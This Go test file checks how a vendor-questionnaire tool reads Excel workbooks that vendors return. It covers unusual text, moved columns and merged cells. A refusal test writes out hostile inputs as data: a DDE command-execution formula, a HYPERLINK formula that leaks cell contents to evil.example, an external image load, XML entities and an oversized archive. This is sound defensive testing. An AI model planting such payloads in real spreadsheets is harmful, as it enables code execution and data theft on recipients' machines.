package handback_test

import (
	"bytes"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"assay/assessment"
	"assay/assessment/form"
	"assay/assessment/outstanding"
	"assay/assessment/written"
	"assay/report/handback"
	"assay/report/handout"
	"assay/report/vendorcopy"
)

// vendorsCopy has a question of each form.
func vendorsCopy() handout.Copy {
	return handout.Copy{Copy: vendorcopy.Copy{
		Terms: vendorcopy.Terms{
			Milestone: asked().Milestone, Made: asked().Made, Due: asked().Due, Vendor: asked().Vendor, From: "St. Elsewhere", Form: asked().ID, Assessment: asked().Assessment,
		},
		Title: "Due diligence in short", Questionnaire: "story 1.2.0", Pin: assessment.Pin{ID: asked().Questionnaire, Version: asked().Version, Hash: asked().Hash},
		Sections: []vendorcopy.Section{{ID: "BAA", Name: "Contract", Questions: []vendorcopy.Question{
			{ID: "BAA-01", Ask: "=Is it signed?", Form: vendorcopy.InPlace, Documents: []string{"EV-01"}},
			{ID: "BAA-02", Ask: "Who reads “the logs”?", Form: vendorcopy.InWords},
			{ID: "tool", Ask: "Which tool?", Form: vendorcopy.OneOf, Choices: []vendorcopy.Choice{{Value: "none", Label: "None, so far"}, {Value: "v2.1", Label: "Our own, version 2.1"}}},
			{ID: "data_kinds", Ask: "Which data?", Form: vendorcopy.SomeOf, Choices: []vendorcopy.Choice{{Value: "names", Label: "Names"}, {Value: "icd.10", Label: "=Diagnoses"}}},
			{ID: "first_day", Ask: "When?", Form: vendorcopy.Date},
			{ID: "people", Ask: "How many?", Form: vendorcopy.Number},
			{ID: "offshore", Ask: "Is anyone abroad?", Form: vendorcopy.YesNo},
		}}},
		Documents: []vendorcopy.Document{{ID: "EV-01", Name: "Agreement", IssuedBy: "vendor"}, {ID: "EV-02", Name: "Register"}},
	}}
}

// edited is a workbook after a change.
func edited(t testing.TB, file []byte, change func(f *excelize.File)) []byte {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	change(f)
	var out bytes.Buffer
	if err := f.Write(&out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// put sets the cell beside the one with a text, so many columns to the right.
func put(t testing.TB, f *excelize.File, sheet, beside string, columns int, value any) {
	t.Helper()
	places, err := f.SearchSheet(sheet, beside)
	if err != nil || len(places) == 0 {
		t.Fatalf("%q is not in sheet %s: %v", beside, sheet, err)
	}
	column, row, _ := excelize.CellNameToCoordinates(places[0])
	at, _ := excelize.CoordinatesToCellName(column+columns, row)
	if err := f.SetCellValue(sheet, at, value); err != nil {
		t.Fatal(err)
	}
}

// emptyWorkbook is the vendor's copy before anybody filled it in.
func emptyWorkbook(t testing.TB) []byte {
	t.Helper()
	file, err := vendorsCopy().Workbook("a4")
	if err != nil {
		t.Fatal(err)
	}
	return file
}

// filledWorkbook is a workbook that a vendor filled in.
func filledWorkbook(t testing.TB) []byte {
	t.Helper()
	return edited(t, emptyWorkbook(t), func(f *excelize.File) {
		for label, text := range map[string]string{"Legal name of the company": "Łódź Data & Co", "Completed by": "Ana Peña", "Role": "Privacy", "Email or phone": "ana@example.com"} {
			put(t, f, "How to use this", label, 1, text)
		}
		places, _ := f.SearchSheet("How to use this", "Date")
		style, err := f.NewStyle(&excelize.Style{NumFmt: 14})
		if err != nil {
			t.Fatal(err)
		}
		_, row, _ := excelize.CellNameToCoordinates(places[len(places)-1])
		at, _ := excelize.CoordinatesToCellName(2, row)
		_ = f.SetCellInt("How to use this", at, 46351) // 2026-11-25
		_ = f.SetCellStyle("How to use this", at, at, style)
		put(t, f, "Questions", "BAA-01", 3, "Yes")
		put(t, f, "Questions", "BAA-01", 4, "Signed “both sides”\nsee page 2")
		put(t, f, "Questions", "BAA-02", 4, "日本語 שלום 😀 'quoted' \"twice\"")
		put(t, f, "Questions", "tool", 3, "Our own, version 2.1")
		put(t, f, "Questions", "data_kinds", 4, "Names\n=Diagnoses")
		put(t, f, "Questions", "people", 4, 12)
		put(t, f, "Questions", "offshore", 3, false)
		places, _ = f.SearchSheet("Questions", "first_day")
		at = strings.Replace(places[0], "A", "E", 1)
		_ = f.SetCellInt("Questions", at, 46391) // 2027-01-04
		_ = f.SetCellStyle("Questions", at, at, style)
		put(t, f, "Documents", "EV-01", 5, "baa.pdf, 2026-10-01")
	})
}

func workbookReply() written.Reply {
	return written.Reply{
		Form: asked(), Format: written.XLSX, Finished: true,
		Stated: written.Stated{Company: "Łódź Data & Co", Name: "Ana Peña", Role: "Privacy", Reach: "ana@example.com", Day: day("2026-11-25"), DayText: "2026-11-25"},
		Answers: []written.Answer{
			{Item: "BAA-01", Asked: "=Is it signed?", Offered: []string{"yes", "no"}, Choices: []string{"yes"}, Words: "Signed “both sides”\nsee page 2"},
			{Item: "BAA-02", Asked: "Who reads “the logs”?", Words: "日本語 שלום 😀 'quoted' \"twice\""},
			{Item: "tool", Asked: "Which tool?", Offered: []string{"None, so far", "Our own, version 2.1"}, Choices: []string{"Our own, version 2.1"}},
			{Item: "data_kinds", Asked: "Which data?", Offered: []string{"Names", "=Diagnoses"}, Choices: []string{"Names", "=Diagnoses"}},
			{Item: "first_day", Asked: "When?", Words: "2027-01-04"},
			{Item: "people", Asked: "How many?", Words: "12"},
			{Item: "offshore", Asked: "Is anyone abroad?", Offered: []string{"yes", "no"}, Choices: []string{"no"}},
		},
		Documents: []written.Document{{Kind: "EV-01", Note: "baa.pdf, 2026-10-01"}},
	}
}

func TestAFilledWorkbookIsRead(t *testing.T) {
	same(t, read(t, "form.xlsx", filledWorkbook(t)), workbookReply())
}

// The files are those of TestLibreOfficeSavesWorkbooksThatAreRead: one saved as XLSX, and one as ODS and then as XLSX.
func TestAWorkbookThatLibreOfficeSavedIsRead(t *testing.T) {
	for _, name := range []string{"libreoffice", "opendocument"} {
		file, err := os.ReadFile("testdata/" + name + ".xlsx")
		if err != nil {
			t.Fatal(err)
		}
		same(t, read(t, name, file), workbookReply())
	}
}

func TestMovedColumnsNewRowsAndRenamedSheetsDoNoHarm(t *testing.T) {
	file := edited(t, filledWorkbook(t), func(f *excelize.File) {
		must := func(err error) {
			if err != nil {
				t.Fatal(err)
			}
		}
		must(f.SetSheetName("Questions", "Fragen"))
		must(f.MoveSheet("Documents", "How to use this"))
		must(f.InsertCols("Fragen", "A", 2))
		must(f.InsertRows("Fragen", 4, 1))
		must(f.SetCellStr("Fragen", "B1", "Owner"))
		must(f.SetCellStr("Fragen", "B5", "Legal"))
		must(f.SetCellStr("Fragen", "G4", "see above"))
		_, err := f.NewSheet("Our notes")
		must(err)
		must(f.SetCellStr("Our notes", "A1", "ask Bob"))
		must(f.SetCellFormula("Our notes", "A2", "SUM(1,2)"))
	})
	want := workbookReply()
	want.Remarks = []written.Remark{
		{Where: "cell G4 of sheet Fragen", What: "has no id of a question beside it: see above"},
		{Where: "cell B5 of sheet Fragen", What: "is in a column that our form has not: Owner: Legal"},
		{Where: "the sheet Our notes", What: "is no part of our form, and is not read"},
	}
	got := read(t, "form.xlsx", file)
	same(t, got, want)
}

func TestRichTextAndMergedCellsAreRead(t *testing.T) {
	file := edited(t, emptyWorkbook(t), func(f *excelize.File) {
		places, _ := f.SearchSheet("Questions", "BAA-02")
		at := strings.Replace(places[0], "A", "E", 1)
		_ = f.SetCellRichText("Questions", at, []excelize.RichTextRun{{Text: "The "}, {Text: "SOC", Font: &excelize.Font{Bold: true}}, {Text: " team"}})
		_ = f.MergeCell("Questions", at, strings.Replace(places[0], "A3", "E", 1)[:0]+"E5")
		put(t, f, "Questions", "offshore", 3, "Only the night shift")
	})
	got := read(t, "form.xlsx", file)
	if got.Answers[0].Words != "The SOC team" {
		t.Errorf("rich text gives %q", got.Answers)
	}
	want := []written.Remark{
		{Where: "offshore", What: "the choice “Only the night shift” is none of those that the form offers"},
		{Where: "the sheet Questions", What: "has one cell for several rows, E4 to E5: its text counts for the first row only"},
	}
	if !slices.Equal(got.Remarks, want) || got.Answers[1].Words != "Only the night shift" {
		t.Errorf("remarks %q, answers %q", got.Remarks, got.Answers)
	}
}

func TestTheOutstandingListIsRead(t *testing.T) {
	list := outstanding.List{Vendor: asked().Vendor, AsOf: asked().Made, Points: []outstanding.Point{
		{Why: outstanding.Whys()[0], Item: "BAA-01", Title: "Signed", Ask: "Is it signed?", From: "vendor", Missing: []string{"an answer"}},
		{Why: outstanding.Whys()[1], Item: "BAA-01", Title: "Signed", Ask: "Is it signed?", From: "vendor", Missing: []string{"a document"}},
		{Why: outstanding.Whys()[0], Item: "BAA-02", Title: "Logs", Ask: "Who reads the logs?", From: "vendor", Missing: []string{"an answer"}},
	}}
	open := asked()
	open.Part = form.Outstanding
	file, err := handout.FollowUp{List: list, Form: open, From: "St. Elsewhere"}.Workbook("a4")
	if err != nil {
		t.Fatal(err)
	}
	file = edited(t, file, func(f *excelize.File) {
		_ = f.SetCellStr("Open points", "G2", "Yes, both sides")
		_ = f.SetCellStr("Open points", "G3", "baa.pdf")
		put(t, f, "How to use this", "Completed by", 1, "Ana Peña")
	})
	same(t, read(t, "list.xlsx", file), written.Reply{
		Form: open, Format: written.XLSX, Finished: true, Stated: written.Stated{Name: "Ana Peña"},
		Answers: []written.Answer{{Item: "BAA-01", Asked: "Is it signed?", Words: "Yes, both sides\n\nbaa.pdf"}},
	})
}

// withParts is a workbook with more parts, or with parts changed.
func withParts(t *testing.T, parts map[string]string) []byte {
	t.Helper()
	all := inside(t, filledWorkbook(t))
	for name, content := range parts {
		all[name] = content
	}
	var entries []entry
	for name, content := range all {
		entries = append(entries, entry{name: name, content: content})
	}
	return zipped(t, entries...)
}

func TestAHostileWorkbookIsRefused(t *testing.T) {
	with := func(sheet, at, formula string) []byte {
		return edited(t, filledWorkbook(t), func(f *excelize.File) {
			_ = f.SetCellFormula(sheet, at, formula)
		})
	}
	for name, c := range map[string]struct {
		file []byte
		want assessment.Case
		says string
	}{
		"formula":         {with("Questions", "E3", "1+1"), assessment.ReplyUnsafe, "cell E3 of sheet “Questions” has a formula where an answer belongs"},
		"formula as name": {with("How to use this", "B18", "A1"), assessment.ReplyUnsafe, "has a formula"},
		"DDE":             {with("Choices", "D9", `cmd|' /C calc'!A0`), assessment.ReplyUnsafe, "reaches out of the workbook"},
		"link by formula": {with("Documents", "J9", `HYPERLINK("http://evil.example/?x="&A1,"open")`), assessment.ReplyUnsafe, "reaches out"},
		"macros":          {withParts(t, map[string]string{"xl/vbaProject.bin": "x"}), assessment.ReplyUnsafe, "macros"},
		"external link":   {withParts(t, map[string]string{"xl/externalLinks/externalLink1.xml": "<externalLink/>"}), assessment.ReplyUnsafe, "links to other files"},
		"embedded":        {withParts(t, map[string]string{"xl/embeddings/oleObject1.bin": "x"}), assessment.ReplyUnsafe, "embedded objects"},
		"loaded picture": {withParts(t, map[string]string{
			"xl/drawings/_rels/drawing1.xml.rels": `<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://evil.example/x.png" TargetMode="External"/></Relationships>`,
		}), assessment.ReplyUnsafe, "loads something from elsewhere"},
		"entities in cells": {withParts(t, map[string]string{"xl/sharedStrings.xml": `<!DOCTYPE sst [<!ENTITY a "aaaa">]><sst><si><t>&a;</t></si></sst>`}), assessment.ReplyUnsafe, "entities"},
		"entities in links": {withParts(t, map[string]string{"xl/_rels/more.xml.rels": `<!DOCTYPE a [<!ENTITY a "b">]><Relationships/>`}), assessment.ReplyUnsafe, "entities"},
		"large":             {withParts(t, map[string]string{"xl/media/a.png": strings.Repeat("\x00", 21_000_000)}), assessment.TooLarge, "unpacks to"},
		"Word":              {zipped(t, entry{name: "[Content_Types].xml"}, entry{name: "word/document.xml"}), assessment.NotAReply, "a Word document"},
		"no form":           {edited(t, filledWorkbook(t), func(f *excelize.File) { put(t, f, "How to use this", asked().String(), 0, "") }), assessment.NotAReply, "does not say to which form"},
		"changed form":      {edited(t, filledWorkbook(t), func(f *excelize.File) { put(t, f, "How to use this", asked().String(), 0, "assay-form/1?form=x") }), assessment.NotAReply, "was changed"},
		"two forms":         {edited(t, filledWorkbook(t), func(f *excelize.File) { _ = f.SetCellStr("Questions", "Z99", "assay-form/1?form=2") }), assessment.NotAReply, "two forms"},
		"no heads":          {edited(t, filledWorkbook(t), func(f *excelize.File) { _ = f.RemoveRow("Questions", 1); _ = f.RemoveRow("Documents", 1) }), assessment.NotAReply, "the columns"},
	} {
		t.Run(name, func(t *testing.T) { refused(t, c.file, c.want, c.says) })
	}
}

func TestLinksThatExcelMakesOfAddressesAreFine(t *testing.T) {
	file := edited(t, filledWorkbook(t), func(f *excelize.File) {
		_ = f.SetCellHyperLink("How to use this", "B20", "mailto:ana@example.com", "External")
		_ = f.SetCellHyperLink("Documents", "F2", `file:///C:\Users\ana\baa.pdf`, "External")
	})
	want := workbookReply()
	want.Remarks = []written.Remark{{Where: "the workbook", What: "has a link to “file:///C:\\Users\\ana\\baa.pdf”: do not follow it"}}
	same(t, read(t, "form.xlsx", file), want)
}

// Excel shows a truth value, whatever text the file has kept as its result.
func TestATruthValueShowsWhatItIs(t *testing.T) {
	parts := inside(t, edited(t, filledWorkbook(t), func(f *excelize.File) { put(t, f, "Questions", "BAA-02", 4, "Signed by all") }))
	var entries []entry
	for name, content := range parts {
		if strings.HasPrefix(name, "xl/worksheets/") {
			content = tick.ReplaceAllString(content, `<c r="D8" t="str"><f>TRUE()</f><v>No</v></c>`)
		}
		entries = append(entries, entry{name: name, content: content})
	}
	refused(t, zipped(t, entries...), assessment.ReplyUnsafe, "has a formula where an answer belongs")
}

var tick = regexp.MustCompile(`<c r="D8"[^>]*>.*?</c>`)

// The texts of other sheets are looked through, and answers among the documents are told.
func TestTextBesideTheTablesIsLookedThrough(t *testing.T) {
	got := read(t, "form.xlsx", edited(t, filledWorkbook(t), func(f *excelize.File) {
		_, _ = f.NewSheet("People")
		_ = f.SetSheetRow("People", "A1", &[]any{"MRN", "Name"})
		_ = f.SetSheetRow("People", "A2", &[]any{"4471902", "Lopez"})
		_ = f.SetCellStr("Questions", "Z1", vendorcopy.HeadFile)
	}))
	if !slices.Contains(got.Unseen, "MRN: 4471902, Name: Lopez") {
		t.Errorf("looked through are %q", got.Unseen)
	}
	if !slices.ContainsFunc(got.Remarks, func(r written.Remark) bool { return r.Where == "BAA-02" && strings.Contains(r.What, "日本語") }) {
		t.Errorf("the answers are lost: %q", got.Remarks)
	}
}

// FuzzRead reads files of any content. Whatever they hold, either they are read to a reply with clean texts, or there is
// an error with a case.
func FuzzRead(f *testing.F) {
	f.Add(good(f))
	f.Add(filled(f))
	f.Add(filledWorkbook(f))
	f.Fuzz(func(t *testing.T, file []byte) {
		h, err := handback.Read("file", bytes.NewReader(file), int64(len(file)))
		if err != nil {
			if assessment.CaseOf(err) == "" {
				t.Errorf("an error without a case: %v", err)
			}
			return
		}
		for _, a := range h.Reply().Answers {
			if strings.ContainsAny(a.Words, "\r\x00\x1b\u202e") || a.Item == "" && len(a.Choices) == 0 && a.Words == "" {
				t.Errorf("the answer %q", a)
			}
		}
	})
}
